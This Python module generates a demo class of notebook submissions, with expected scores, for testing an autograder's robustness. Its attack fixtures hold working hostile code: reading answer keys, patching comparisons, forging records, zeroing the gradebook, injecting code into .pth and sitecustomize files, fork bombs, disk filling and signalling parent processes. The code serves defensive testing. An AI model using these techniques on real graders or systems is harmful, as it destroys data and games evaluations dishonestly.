"""A sample class to rehearse grading on: generated submissions with known scores.

    python -m utils.instructor demo-class [--out demo_class] [--students N]

Every student hands in stage 01 (vanilla gradients), as one of the kinds below:
correct answers (some renamed, resubmitted or noisy on stderr), typical mistakes,
stubs, broken files and hostile code. ``expected_scores.csv`` holds the score each
should get from autograding, computed from the points in the source notebook.
``expected_report.json`` holds what the class report must find: the classic mistake
each kind makes (two students make the same one), the copy of a classmate's solution
with its variables renamed and its comments rewritten, independent solutions that must
not look alike, and the hand-ins that cannot be graded.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
from dataclasses import dataclass
from pathlib import Path

import nbformat

from ..cells import find_cell, grade_id, is_grade, is_test, points
from ..paths import RELEASE, ROOT, SOURCE

STAGE = "01_vanilla_gradients"
FORM, HIDDEN_IMAGENET, HIDDEN_MNIST = ("test_vanilla_gradients_form", "test_vanilla_gradients_hidden_imagenet",
                                       "test_vanilla_gradients_hidden_mnist")
ALL = (FORM, HIDDEN_IMAGENET, HIDDEN_MNIST)

CORRECT = """
def vanilla_gradients(model, input_tensor, target_class):
    model.eval()
    x = input_tensor.clone().detach().requires_grad_(True)
    model(x)[0, target_class].backward()
    return x.grad
"""

# A correct solution in a student's own, longer style, and a classmate's copy of it with every variable
# renamed and the comments rewritten (the class report's similarity check must find the pair).
OWN_STYLE = '''
def vanilla_gradients(model, input_tensor, target_class):
    """The saliency map: the gradient of the class logit with respect to the input pixels."""
    if input_tensor.dim() != 4 or input_tensor.shape[0] != 1:
        raise ValueError(f"expected one image of shape (1, C, H, W), got {tuple(input_tensor.shape)}")
    was_training = model.training
    model.eval()
    try:
        image = input_tensor.detach().clone()
        image.requires_grad_(True)
        scores = model(image)
        n_classes = scores.shape[1]
        if not 0 <= target_class < n_classes:
            raise ValueError(f"target_class {target_class} is not one of the {n_classes} classes")
        # the raw logit of the class, no softmax
        chosen_score = scores[0, target_class]
        model.zero_grad()
        chosen_score.backward()
        saliency = image.grad.detach()
    finally:
        model.train(was_training)
    return saliency
'''

RENAMED_COPY = '''
def vanilla_gradients(model, input_tensor, target_class):
    """Gradient of the score wrt the picture (my own version)."""
    if input_tensor.dim() != 4 or input_tensor.shape[0] != 1:
        raise ValueError(f"need a (1, C, H, W) batch, got {tuple(input_tensor.shape)}")
    mode_before = model.training
    model.eval()
    try:
        pic = input_tensor.detach().clone()
        pic.requires_grad_(True)
        out = model(pic)
        how_many = out.shape[1]
        if not 0 <= target_class < how_many:
            raise ValueError(f"class {target_class} out of range ({how_many} outputs)")
        # take our class's logit
        logit = out[0, target_class]
        model.zero_grad()
        logit.backward()
        grad_map = pic.grad.detach()
    finally:
        model.train(mode_before)
    return grad_map
'''

# Written independently of CORRECT and OWN_STYLE: the same method, another route (torch.autograd.grad).
AUTOGRAD_STYLE = """
import torch
def vanilla_gradients(model, input_tensor, target_class):
    model.eval()
    inp = input_tensor.clone().requires_grad_()
    with torch.enable_grad():
        logits = model(inp)
    grads, = torch.autograd.grad(logits[:, target_class].sum(), inp)
    return grads
"""

VARIANTS = {
    "softmax": CORRECT.replace("model(x)[0, target_class]", "model(x).softmax(dim=1)[0, target_class]"),
    # The same mistake as "softmax", written by another student in another way.
    "softmax_again": """
import torch
def vanilla_gradients(model, input_tensor, target_class):
    model.eval()
    x = input_tensor.detach().clone().requires_grad_(True)
    probs = torch.softmax(model(x), dim=1)
    probs[0, target_class].backward()
    return x.grad
""",
    "own_style": OWN_STYLE,
    "renamed_copy": RENAMED_COPY,
    "autograd_style": AUTOGRAD_STYLE,
    "no_eval": CORRECT.replace("    model.eval()\n", ""),
    "absolute": CORRECT.replace("return x.grad", "return x.grad.abs()"),
    "answer_key": """
def vanilla_gradients(model, input_tensor, target_class):
    from utils.instructor.reference import vanilla_gradients as answer
    return answer(model, input_tensor, target_class)
""",
    "warns": """
import warnings
def vanilla_gradients(model, input_tensor, target_class):
    warnings.warn("a harmless warning printed to stderr")
    model.eval()
    x = input_tensor.clone().detach().requires_grad_(True)
    model(x)[0, target_class].backward()
    return x.grad
""",
    "patches_allclose": CORRECT + """
import numpy, torch
numpy.allclose = lambda *args, **kwargs: True
torch.allclose = lambda *args, **kwargs: True
""",
    "leaves_hook": CORRECT.replace("    model.eval()\n", "    model.eval()\n    model.register_forward_hook(lambda *a: None)\n"),
    "kills_kernel_on_mnist": CORRECT.replace("    model.eval()\n", "    model.eval()\n    if input_tensor.shape[1] == 1:\n        import os\n        os._exit(1)\n"),
    "sigkill_on_mnist": CORRECT.replace("    model.eval()\n", "    model.eval()\n    if input_tensor.shape[1] == 1:\n        import os, signal\n        os.kill(os.getpid(), signal.SIGKILL)\n"),
    "runs_out_of_memory_on_mnist": CORRECT.replace("    model.eval()\n", "    model.eval()\n    if input_tensor.shape[1] == 1:\n        import numpy\n        hoard = numpy.ones(10 ** 13)\n"),
    "infinite_loop_after_def": CORRECT + "\nwhile True:\n    pass\n",
    "mutates_model_on_photos": CORRECT.replace("    return x.grad", """    if input_tensor.shape[1] == 3:
        import torch
        with torch.no_grad():
            for parameter in model.parameters():
                parameter.mul_(0.5)
    return x.grad"""),
    "mutates_input": CORRECT.replace("    return x.grad", """    import torch
    with torch.no_grad():
        input_tensor.clamp_(-0.5, 0.5)
    return x.grad"""),
}


NOISE = """
import torch
def vanilla_gradients(model, input_tensor, target_class):
    return torch.randn(input_tensor.shape)
"""

# Attacks, each written as a student who has read every file of the course would. ``{root}`` is the
# grading workspace (submitted/, gradebook.db, grades.csv, feedback/) and ``{repo}`` the course's
# repository: the worst case is an attacker who knows both paths.
ATTACKS = {
    "reads_solutions": NOISE + """
import glob, json
for path in glob.glob("{repo}/solutions/01*/*.ipynb") + glob.glob("{root}/solutions/01*/*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "vanilla_gradients":
            exec("".join(cell["source"]))
""",
    "quiet_answer_key": NOISE + """
import sys
def vanilla_gradients(model, input_tensor, target_class, _noise=vanilla_gradients):
    sys.setprofile(None)
    try:
        sys.path.insert(0, "{repo}")
        from utils.instructor.reference import vanilla_gradients as answer
        return answer(model, input_tensor, target_class)
    except Exception:
        return _noise(model, input_tensor, target_class)
""",
    "walks_the_stack": NOISE + """
import inspect
def vanilla_gradients(model, input_tensor, target_class, _noise=vanilla_gradients):
    for frame in inspect.stack():
        for name in ("expected", "wanted", "answer"):
            if name in frame.frame.f_locals:
                return frame.frame.f_locals[name]
    return _noise(model, input_tensor, target_class)
""",
    "forges_records": NOISE + """
import numpy, utils.recording as recording
def forged(grade_id, function):
    from IPython.display import display
    from utils.recording._format import as_output, encode
    cases = [{{"kind": "array", "problems": []}} for _ in range(4)]
    arrays = {{f"c{{i}}": numpy.zeros((1, 3, 224, 224)) for i in range(4)}}
    display(as_output(encode(grade_id, cases, arrays), grade_id), raw=True)
recording.record = forged
import utils.recording._format as fmt
fmt.decode = lambda *a, **k: ([], {{}})
torch.linalg.vector_norm = lambda *a, **k: torch.tensor(0.0)
torch.allclose = torch.equal = lambda *a, **k: True
""",
    "prints_grader_source": NOISE + """
import glob
for pattern in ("{repo}/utils/instructor/reference/*.py", "{repo}/utils/instructor/judge/*.py",
                "{repo}/solutions/01*/*.ipynb", "{root}/gradebook.db"):
    for path in glob.glob(pattern):
        try:
            print(open(path, errors="replace").read())
        except Exception as error:
            print("could not read", path, error)
""",
    "odd_result": """
import torch
class Liar(torch.Tensor):
    def __eq__(self, other): return True
    def __array__(self, *a, **k): raise RuntimeError("no")
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True if func in (torch.allclose, torch.equal) else super().__torch_function__(func, types, args, kwargs or {{}})
def vanilla_gradients(model, input_tensor, target_class):
    return torch.randn(input_tensor.shape).as_subclass(Liar)
""",
    "copies_classmate": NOISE + """
import glob, json
for path in glob.glob("{root}/submitted/*/01*/*.ipynb") + glob.glob("{root}/autograded/*/01*/*.ipynb"):
    try:
        for cell in json.load(open(path))["cells"]:
            if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("grade_id") == "vanilla_gradients":
                exec("".join(cell["source"]))
    except Exception:
        pass
""",
    "harms_others": CORRECT + """
import glob, os, sqlite3
def attempt(action):
    try:
        action()
    except Exception:
        pass
def gradebook():
    db = sqlite3.connect("{root}/gradebook.db")
    db.execute("update grade set manual_score = 0")
    db.commit()
attempt(gradebook)
for path in glob.glob("{root}/submitted/*/*/*.ipynb") + glob.glob("{root}/grades.csv") + glob.glob("{root}/feedback/*/*/*"):
    attempt(lambda: open(path, "w").write("{{}}"))
for path in glob.glob("{repo}/utils/**/*.py", recursive=True) + glob.glob("{repo}/.venv/lib/*/site-packages/*.pth"):
    attempt(lambda: open(path, "a").write("\\nimport os; os.system('echo pwned')\\n"))
attempt(lambda: open("{repo}/pwned.txt", "w").write("pwned"))
""",
    "daemon_and_signals": CORRECT + """
import os, signal, subprocess, sys
script = "import time\\nwhile True:\\n    time.sleep(0.5)\\n    open('{root}/grades.csv', 'a').write('pwned')\\n"
subprocess.Popen([sys.executable, "-c", script], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
for pid in {{os.getppid(), 1}}:
    try:
        os.kill(pid, signal.SIGSTOP)
    except Exception:
        pass
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGTERM)
except Exception:
    pass
""",
    "fork_bomb": NOISE + """
import os, time
try:
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(3600)
except OSError:
    pass
""",
    "fills_disk": CORRECT + """
import os
for path in ("/tmp/fill", "fill", "{root}/fill"):
    try:
        with open(path, "wb") as handle:
            while True:
                handle.write(b"0" * (1 << 24))
    except Exception:
        pass
    try:
        os.remove(path)
    except Exception:
        pass
""",
    # Tries to leave something behind for the kernels of later notebooks (its own grade is honest).
    "persists": CORRECT + """
import os, site, sys
MARK = "import os\\nos.environ['XAI_PERSISTED'] = '1'\\n"
places = ["/tmp/xai-persisted", "/dev/shm/xai-persisted", os.path.expanduser("~/xai-persisted"),
          "{repo}/utils/xai_persisted.py", "{repo}/data/xai-persisted", "{repo}/course/xai-persisted",
          os.path.join(sys.prefix, "xai-persisted")]
places += [os.path.join(folder, name) for folder in site.getsitepackages()
           for name in ("sitecustomize.py", "usercustomize.py", "xai_persisted.pth")]
for path in places:
    try:
        open(path, "w").write(MARK)
    except Exception:
        pass
os.environ["XAI_PERSISTED"] = "1"
sys.modules["torch"].xai_persisted = True
""",
    # Graded after "persists": returns noise when anything of it survived into this kernel.
    "finds_persisted": """
import os, glob, site, sys, torch
def vanilla_gradients(model, input_tensor, target_class):
    left = glob.glob("/tmp/xai-persisted") + glob.glob("/dev/shm/xai-persisted") + glob.glob(os.path.expanduser(
        "~/xai-persisted")) + glob.glob("{repo}/*/xai?persisted*") + glob.glob(os.path.join(sys.prefix, "xai-persisted"))
    left += [path for folder in site.getsitepackages() for path in glob.glob(os.path.join(folder, "*customize.py"))
             + glob.glob(os.path.join(folder, "xai_persisted.pth"))]
    if left or os.environ.get("XAI_PERSISTED") or getattr(torch, "xai_persisted", False):
        return torch.randn(input_tensor.shape)
    model.eval()
    x = input_tensor.clone().detach().requires_grad_(True)
    model(x)[0, target_class].backward()
    return x.grad
""",
    "network": CORRECT + """
import socket
for address in (("127.0.0.1", 22), ("127.0.0.1", 8786), ("10.0.0.1", 80)):
    try:
        socket.create_connection(address, timeout=2).close()
        print("connected to", address)
    except OSError:
        pass
""",
}


@dataclass(frozen=True)
class Kind:
    name: str
    passes: tuple        # test cells that should earn their points
    how: str             # what the submission does
    mistake: str | None = None  # the classic mistake (judge/mistakes.py) the judge names in each test it fails


KINDS = [
    Kind("correct", ALL, "the solution"),
    Kind("correct_renamed", ALL, "the solution, saved under another file name"),
    Kind("resubmitted", ALL, "a stub first, then the solution an hour later; the later one counts"),
    Kind("stub", (), "the untouched release"),
    Kind("softmax", (), "explains the softmax probability instead of the logit", "probability"),
    Kind("softmax_again", (), "the same mistake as 'softmax', written another way (torch.softmax)", "probability"),
    Kind("own_style", ALL, "a correct solution in a longer style of its own (restores the model's mode)"),
    Kind("renamed_copy", ALL, "a copy of 'own_style' with every variable renamed and the comments rewritten"),
    Kind("autograd_style", ALL, "a correct solution written independently (torch.autograd.grad)"),
    Kind("no_eval", (FORM, HIDDEN_MNIST), "forgets model.eval() (the MNIST model has no batch norm or dropout)",
         "model_changed"),
    Kind("absolute", (), "returns |gradient|", "absolute_value"),
    Kind("answer_key", (), "calls the answer key in place of its own code (invisible in the sandbox)"),
    Kind("warns", ALL, "correct, but writes a warning to stderr"),
    Kind("patches_allclose", ALL, "correct, and replaces numpy.allclose and torch.allclose (the judge uses neither)"),
    Kind("leaves_hook", (), "correct values, but leaves a hook on the model", "hook_left"),
    Kind("kills_kernel_on_mnist", (FORM, HIDDEN_IMAGENET), "calls os._exit on MNIST inputs"),
    Kind("sigkill_on_mnist", (FORM, HIDDEN_IMAGENET), "is killed like by the out-of-memory killer on MNIST inputs"),
    Kind("runs_out_of_memory_on_mnist", (FORM, HIDDEN_IMAGENET), "asks for 80 TB on MNIST inputs"),
    Kind("deleted_tests", ALL, "the solution with every test cell deleted (nbgrader puts them back)"),
    Kind("edited_tests", ALL, "the solution with its test cells rewritten to pass (nbgrader restores them)"),
    Kind("invalid_json", (), "a file that is not JSON"),
    Kind("wrong_nbformat", (), "a notebook claiming nbformat 99"),
    Kind("infinite_loop_after_def", ALL, "the solution followed by an endless loop in the same cell"),
    Kind("correct_numpy", ALL, "the solution returning a NumPy array without the batch dimension"),
    Kind("mutates_model_on_photos", (HIDDEN_MNIST,),
         "halves the ImageNet model's weights after computing; the MNIST test after it must not suffer",
         "model_changed"),
    Kind("mutates_input", (), "clamps the caller's input tensor in place", "input_modified"),
    # Attacks (see ATTACKS): each earns exactly what its honest work earns.
    Kind("reads_solutions", (), "returns noise; execs the solution read from solutions/ on disk"),
    Kind("quiet_answer_key", (), "returns noise; switches the call watcher off and calls the answer key"),
    Kind("walks_the_stack", (), "returns noise; looks for the grader's expected value in the callers' frames"),
    Kind("forges_records", (), "returns noise; replaces the recorder with one that writes made-up records"),
    Kind("odd_result", (), "returns noise in a tensor subclass whose comparisons always say equal"),
    Kind("copies_classmate", (), "returns noise; execs a classmate's submitted solution"),
    Kind("prints_grader_source", (), "returns noise; prints the answer key, the judge and the solutions"),
    Kind("harms_others", ALL, "correct; tries to zero the gradebook, overwrite classmates, grades, feedback, the code"),
    Kind("daemon_and_signals", ALL, "correct; starts a daemon that edits grades.csv, stops and signals its parents"),
    Kind("fork_bomb", (), "returns noise; forks until the process limit"),
    Kind("fills_disk", ALL, "correct; writes until the disk is full"),
    Kind("network", ALL, "correct; opens network connections"),
    Kind("persists", ALL, "correct; tries to leave files, site hooks and state for the next notebooks' kernels"),
    Kind("finds_persisted", ALL, "correct, graded after 'persists': returns noise if anything of it survived"),
]


def _points() -> dict:
    nb = nbformat.read(SOURCE / STAGE / f"{STAGE}.ipynb", 4)
    return {grade_id(c): points(c) for c in nb.cells if is_grade(c)}


def _release():
    return nbformat.read(RELEASE / STAGE / f"{STAGE}.ipynb", 4)


def _with_solution(code: str):
    nb = _release()
    find_cell(nb, "vanilla_gradients").source = code.strip("\n")
    return nb


def _write(nb, path: Path, mtime: dt.datetime | None = None) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, str(path))
    if mtime:
        os.utime(path, (mtime.timestamp(), mtime.timestamp()))


def make_submission(kind: str, folder: Path, attack_root: Path | None = None) -> None:
    """Write one student's submission of kind ``kind`` into ``folder`` (the student's own folder).

    ``attack_root``: the grading workspace the attacks aim at (default: the repository's)."""
    target = folder / f"{STAGE}.ipynb"
    now = dt.datetime(2026, 11, 20, 12, 0)
    if kind in ATTACKS:
        _write(_with_solution(ATTACKS[kind].format(root=attack_root or ROOT, repo=ROOT)), target)
    elif kind == "correct" or kind in VARIANTS:
        _write(_with_solution(VARIANTS.get(kind, CORRECT)), target)
    elif kind == "correct_numpy":
        _write(_with_solution(CORRECT.replace("return x.grad", "return x.grad[0].numpy()")), target)
    elif kind == "correct_renamed":
        _write(_with_solution(CORRECT), folder / "my homework FINAL (2).ipynb")
    elif kind == "resubmitted":
        _write(_release(), folder / "first try.ipynb", now)
        _write(_with_solution(CORRECT), folder / "second try.ipynb", now + dt.timedelta(hours=1))
    elif kind == "stub":
        _write(_release(), target)
    elif kind == "deleted_tests":
        nb = _with_solution(CORRECT)
        nb.cells = [c for c in nb.cells if not is_test(c)]
        _write(nb, target)
    elif kind == "edited_tests":
        nb = _with_solution(CORRECT)
        for cell in filter(is_test, nb.cells):
            cell.source = "pass  # 'tests' replaced by the student"
        _write(nb, target)
    elif kind == "invalid_json":
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text('{"cells": [ this is not json')
    elif kind == "wrong_nbformat":
        target.parent.mkdir(parents=True, exist_ok=True)
        data = json.loads(nbformat.writes(_with_solution(CORRECT)))
        data["nbformat"] = 99
        target.write_text(json.dumps(data))
    else:
        raise ValueError(f"unknown kind {kind!r}; kinds: {[k.name for k in KINDS]}")


def make_demo_class(out: Path, students: int = len(KINDS), kinds: list[str] | None = None, log=print,
                    attack_root: Path | None = None) -> Path:
    """``students`` submissions cycling through ``kinds`` (default: all), and expected_scores.csv.

    ``attack_root``: the grading workspace the hostile submissions aim at (default: the repository)."""
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    chosen = [k for k in KINDS if kinds is None or k.name in kinds]
    points = _points()
    rows = []
    for number in range(students):
        kind = chosen[number % len(chosen)]
        student = f"s{number + 1:02d}-{kind.name.replace('_', '-')}"
        make_submission(kind.name, out / student, attack_root)
        rows.append({"student_id": student, "kind": kind.name, "how": kind.how,
                     STAGE: float(sum(points[g] for g in kind.passes))})
    with open(out / "expected_scores.csv", "w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=["student_id", "kind", "how", STAGE])
        writer.writeheader()
        writer.writerows(rows)
    (out / "expected_report.json").write_text(json.dumps(expected_report(rows), indent=1))
    log(f"wrote {students} submissions of {STAGE} to {out} (expected scores in {out / 'expected_scores.csv'}, "
        f"what the class report must find in {out / 'expected_report.json'})")
    return out


#: Pairs of kinds written independently: the similarity check must keep them below its threshold.
INDEPENDENT = [("correct", "autograd_style"), ("correct", "own_style"), ("own_style", "autograd_style")]
COPIED = ("own_style", "renamed_copy")
NOT_GRADABLE = ("invalid_json", "wrong_nbformat")


def expected_report(rows: list[dict]) -> dict:
    """What the class report of the graded class ``rows`` (student_id, kind) must find (see the module's docstring).

    ``mistakes``: per test cell and mistake id, exactly the students the judge must name it for;
    ``copied``: the pair that must top similarity.csv; ``independent``: pairs that must not be listed;
    ``alone``: students similar to no one (the untouched stub); ``not_graded``: notebooks that cannot be graded.
    """
    students = {}
    for row in rows:
        students.setdefault(row["kind"], []).append(row["student_id"])
    kinds = {k.name: k for k in KINDS}
    mistakes = {}
    for kind, who in students.items():
        made = kinds[kind].mistake
        for test in ALL if made else ():
            if test not in kinds[kind].passes:
                mistakes.setdefault((test, made), []).extend(who)
    first = {kind: who[0] for kind, who in students.items()}
    return {
        "stage": STAGE,
        "mistakes": [{"test": test, "mistake": made, "students": sorted(who)}
                     for (test, made), who in sorted(mistakes.items())],
        "copied": sorted(first[k] for k in COPIED) if all(k in first for k in COPIED) else None,
        "independent": [sorted((first[a], first[b])) for a, b in INDEPENDENT if a in first and b in first],
        "alone": students.get("stub", []),
        "not_graded": sorted(s for kind in NOT_GRADABLE for s in students.get(kind, [])),
    }
